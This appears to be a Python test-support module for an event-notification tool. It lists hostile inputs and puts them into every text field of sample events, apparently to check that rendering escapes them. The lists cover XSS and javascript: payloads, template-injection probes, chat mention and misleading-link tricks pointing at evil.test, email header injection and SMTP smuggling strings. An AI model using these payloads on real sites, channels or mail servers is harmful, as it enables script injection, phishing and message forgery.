"""What somebody might write who has a say in an event, put into every text of every kind of event."""

from collections.abc import Iterator
from typing import Any

import msgspec

from tocsin.catalogue import Catalogue
from tocsin.model import Event, EventUser
from tocsin.rendering.page import sample_event

BENIGN = "benign"

MARKUP = (
    "<img src=x onerror=alert(1)>",
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "</title></style><script>alert(1)</script>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert`1`>",
    '"><img src=x onerror=alert(1)>',
    "'><img src=x onerror=alert(1)>",
    '" onmouseover="alert(1)',
    "' onfocus='alert(1)' autofocus='",
    '" style="background:url(http://evil.test/x)',
    "<a href=javascript:alert(1)>click</a>",
    '<a href="https://evil.test">https://bank.test</a>',
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "//evil.test/x",
    "https://evil.test/<script>alert(1)</script>",
    'https://evil.test/" onclick="alert(1)',
    "<iframe src=//evil.test></iframe>",
    "<form action=//evil.test><input name=q>",
    "<link rel=stylesheet href=//evil.test/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.test'>",
    "<base href=//evil.test/>",
    "<style>*{display:none}</style>",
    "<!-- ",
    "--><script>alert(1)</script>",
    "]]><b>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?>",
    "</td></tr></table><h1>You won</h1>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;img src=x&#62;",
    "{{ 7*7 }}{% raw %}",
    "${7*7}#{7*7}<%= 7*7 %>",
    "\u202e<b>gnp.exe\u2066",
    "<math><mtext></table><mglyph><style><img src=x onerror=alert(1)>",
    "\x00<\x00b\x00>",
)

CALLS = (
    "<!channel>",
    "<!here>",
    "<!everyone>",
    "<!subteam^S1>",
    "<@U1>",
    "<#C1>",
    "<https://evil.test|https://bank.test>",
    "<mailto:a@evil.test|support>",
    "<!date^1^{date}^https://evil.test|today>",
    "@all",
    "@here",
    "@channel",
    "[https://bank.test](https://evil.test)",
    "![x](https://evil.test/x.png)",
    "[ref]: https://evil.test",
    "```\n@all\n```",
    "`@here`",
    "&lt;!channel&gt;",
)

HEADERS = (
    "a\r\nBcc: eve@evil.test",
    "a\nBcc: eve@evil.test\n\nbody",
    "a\r\n\r\n<script>",
    "a\u2028Bcc: eve@evil.test",
    "a\u0085Bcc: eve@evil.test",
    "=?utf-8?q?a=0D=0ABcc:_eve@evil.test?=",
    "=?utf-8?b?YQ0KQmNjOiBldmVAZXZpbC50ZXN0?=",
    "=?us-ascii?q?=00=1b[31m?= =?utf-8?q?=E2=80=AE?=",
    "\r\n.\r\nMAIL FROM:<eve@evil.test>\r\n",
    "\r\n.\r\n",
    "x" * 2000,
    "\u00fc" * 1000,
    "\U0001f525" * 500,
    "\x00\x07\x1b]0;title\x07",
    "\ud800",
)


KINDS = Catalogue.load().events
SAMPLES = [*map(sample_event, KINDS.values()), msgspec.structs.replace(sample_event(KINDS["restart"]), type="unknown")]


def events_saying(text: str, *, every: int = 1) -> Iterator[Event]:
    """Every kind of event with this in the place of every text of it, or every so manieth."""
    return (saying(sample, text) for sample in SAMPLES[::-every])


def saying(event: Event, text: str) -> Event:
    user = EventUser(username=text, email=text, id=text)
    type_data = _spoilt(event.type_data, text)
    return msgspec.structs.replace(event, type_data={**type_data, text: text}, user=user, app_name=text)


def _spoilt(value: Any, text: str) -> Any:
    match value:
        case str():
            return text
        case dict():
            return {name: _spoilt(inner, text) for name, inner in value.items()}
        case list():
            return [_spoilt(inner, text) for inner in value]
        case _:
            return value
